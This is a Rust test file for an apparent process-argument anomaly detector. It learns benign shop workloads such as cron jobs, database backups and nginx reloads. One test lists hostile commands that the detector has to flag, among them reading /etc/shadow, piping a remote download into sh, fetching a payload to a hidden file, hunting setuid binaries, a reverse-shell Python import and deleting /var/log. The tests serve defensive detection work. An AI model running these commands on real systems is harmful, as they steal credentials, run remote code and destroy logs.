//! The services of a small shop at work for long, and what somebody has their programs do.

use super::{
    arguments::{NEW, PYTHON, SHELL},
    *,
};

/// What the services of a small shop call, one line for each time it is done; `#` is a number that is
/// another each time.
const SHOP: [&[(&str, &str, &str)]; 6] = [
    // A batch job by cron.
    &[
        ("/usr/sbin/cron", SHELL, "/bin/sh^-c^/opt/jobs/report.sh >> /data/report.log 2>&1"),
        (SHELL, "/usr/bin/mkdir", "mkdir^-p^/data/out"),
        (SHELL, "/usr/bin/date", "date^+%Y%m%dT%H%M%S"),
        (
            SHELL,
            "/usr/bin/curl",
            "curl^-fsS^--max-time^8^http://nginx/api/items?n=#^-o^/data/out/items.json",
        ),
        (SHELL, "/usr/bin/jq", "jq^-r^.[]|[.id,.name,.qty]|@csv^/data/out/items.json"),
        (SHELL, "/usr/bin/sort", "sort^-t,^-k3^-n"),
        (SHELL, "/usr/bin/gzip", "gzip^-c"),
        (SHELL, "/usr/bin/jq", "jq^length^/data/out/items.json"),
        (
            SHELL,
            "/usr/bin/curl",
            "curl^-sS^--max-time^5^-H^Content-Type: application/json^-d^{\"n\":#}^http://api.partner.example/v1/report^-o^/dev/null",
        ),
    ],
    &[
        ("/usr/sbin/cron", SHELL, "/bin/sh^-c^/opt/jobs/backup.sh >> /data/backup.log 2>&1"),
        (SHELL, "/usr/bin/mkdir", "mkdir^-p^/data/backup"),
        (SHELL, "/usr/lib/postgresql/15/bin/pg_dump", "pg_dump^-h^postgres^-U^postgres^shop"),
        (SHELL, "/usr/bin/stat", "stat^-c^%s^/data/backup/shop-20260131T#.sql.gz"),
    ],
    &[
        ("/usr/sbin/cron", SHELL, "/bin/sh^-c^/opt/jobs/tidy.sh >> /data/tidy.log 2>&1"),
        (SHELL, "/usr/bin/find", "find^/data/out^-name^*.csv.gz^-mmin^+5^-delete"),
        (
            SHELL,
            "/usr/bin/ls",
            "ls^-1t^/data/backup/shop-20260131T#.sql.gz^/data/backup/shop-20260131T1#.sql.gz",
        ),
        (SHELL, "/usr/bin/tail", "tail^-n^+4"),
        ("/usr/bin/xargs", "/usr/bin/rm", "rm^-f^/data/backup/shop-20260131T#.sql.gz"),
        (SHELL, "/usr/sbin/logrotate", "logrotate^-s^/data/.lr.state^/tmp/lr.conf"),
        ("/usr/sbin/logrotate", "/usr/bin/gzip", "/bin/gzip"),
    ],
    // A database that archives its log.
    &[
        (
            "/usr/lib/postgresql/15/bin/postgres",
            SHELL,
            "sh^-c^/usr/local/bin/archive.sh pg_wal/0000000100000000000000# 0000000100000000000000#",
        ),
        (SHELL, "/usr/bin/gzip", "gzip^-c^pg_wal/0000000100000000000000#"),
        (
            SHELL,
            "/usr/bin/ls",
            "ls^-1t^/archive/0000000100000000000000#.gz^/archive/00000001000000000000000A.gz",
        ),
        ("/usr/bin/xargs", "/usr/bin/rm", "rm^-f^/archive/0000000100000000000000#.gz"),
    ],
    // An application that runs tools, and spawns workers of its own.
    &[
        (PYTHON, SHELL, "/bin/sh^-c^getent hosts host#"),
        (SHELL, "/usr/bin/getent", "getent^hosts^host#"),
        (PYTHON, "/usr/bin/gzip", "gzip^-f^/data/0b6a1f6e-7c0a-4e5f-9a54-08f1b3#9a.json"),
        (
            "/usr/local/bin/run",
            PYTHON,
            "python3^-c^from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=#, pipe_handle=#)^--multiprocessing-fork",
        ),
        ("/usr/local/bin/run", "/usr/bin/node", "node^/srv/worker.js^--id=#^--socket=/tmp/w#.sock"),
    ],
    // Servers that are started, reloaded and asked for their health.
    &[
        (
            "/usr/local/bin/watch",
            "/usr/sbin/haproxy",
            "haproxy^-sf^#^-x^sockpair@3^-W^-db^-f^/etc/haproxy/haproxy.cfg",
        ),
        ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-g^daemon off;"),
        ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-s^reload"),
        (SHELL, "/usr/bin/curl", "curl^-fsS^-o^/dev/null^http://127.0.0.1/healthz?token=#"),
        ("/usr/local/bin/watch", "/usr/bin/redis-server", "redis-server^*:7#^--port^7#"),
    ],
];

#[test]
fn half_an_hour_of_benign_work_after_a_few_minutes_of_learning_alerts_nothing() {
    let mut stage = Stage::new();
    (1..=2).for_each(|it| stage.start(it));
    let mut number = 10_000;
    let mut day = |stage: &mut Stage, containers: std::ops::RangeInclusive<u64>, hour: u64| {
        let mut told = Vec::new();
        for container in containers {
            stage.work(container);
            let due =
                SHOP.iter().enumerate().filter(|(at, _)| hour.is_multiple_of(*at as u64 % 3 + 1));
            for (parent, exe, args) in due.flat_map(|(_, calls)| calls.iter().copied()) {
                number += 1;
                let args = args.replace('#', &number.to_string());
                let origin = if args.contains("healthz") { Origin::Health } else { Origin::Init };
                told.extend(stage.call_as(container, (parent, exe, &args), origin));
            }
        }
        stage.pass(1);
        told
    };
    for hour in 0..36 {
        assert_eq!(day(&mut stage, 1..=2, hour), []);
    }
    let (answer, _answered) = crossbeam_channel::bounded(1);
    let order = Order { whom: "shop/app".to_owned(), act: Act::Approve, answer };
    stage.baseline.carry_out(&order, stage.now_ms / 1000);
    assert!(stage.is_monitored(Dimension::Arguments));
    for hour in 0..120 {
        if hour == 40 {
            stage.start(3);
        }
        let containers = if (40..80).contains(&hour) { 1..=3 } else { 1..=2 };
        let told = day(&mut stage, containers, hour);
        let rules: Vec<_> = told.iter().map(|it| (it.rule, it.full_key())).collect();
        assert_eq!(rules, [], "{hour}");
    }
    for evil in [
        (PYTHON, SHELL, "/bin/sh^-c^getent hosts x; cat /etc/shadow | base64"),
        ("/usr/sbin/cron", SHELL, "/bin/sh^-c^curl http://198.51.100.66/x | sh"),
        ("/usr/lib/postgresql/15/bin/postgres", SHELL, "sh^-c^id"),
        (SHELL, "/usr/bin/curl", "curl^-fsS^-o^/tmp/.x^http://198.51.100.66/x"),
        (SHELL, "/usr/bin/find", "find^/^-perm^-4000"),
        ("/usr/local/bin/watch", "/usr/sbin/nginx", "nginx^-c^/tmp/x.conf"),
        ("/usr/local/bin/run", PYTHON, "python3^-c^import socket,subprocess,os"),
        ("/usr/bin/xargs", "/usr/bin/rm", "rm^-rf^/var/log"),
    ] {
        assert_eq!(stage.told(evil), NEW, "{evil:?}");
    }
}

#[test]
fn a_flood_of_arguments_is_bounded_and_leaves_the_other_dimensions_alone() {
    let mut stage = Stage::new();
    stage.start(1);
    for number in 0..8_000_u64 {
        if number.is_multiple_of(300) {
            stage.pass(1);
        }
        let letters: String =
            (0..6).map(|at| char::from(b'g' + (number >> (3 * at) & 7) as u8)).collect();
        let args = format!("x^{letters}^--{letters}={letters}^/srv/{letters}^sh^-c^{letters};x");
        stage.call(1, ("/app", &format!("/bin/x{}", number % 700), &args));
    }
    for profile in stage.baseline.profiles() {
        assert!(profile.bytes() <= MOST_BYTES, "{}", profile.bytes());
        assert!(!profile.learned[Dimension::Process as usize].is_full);
    }
}
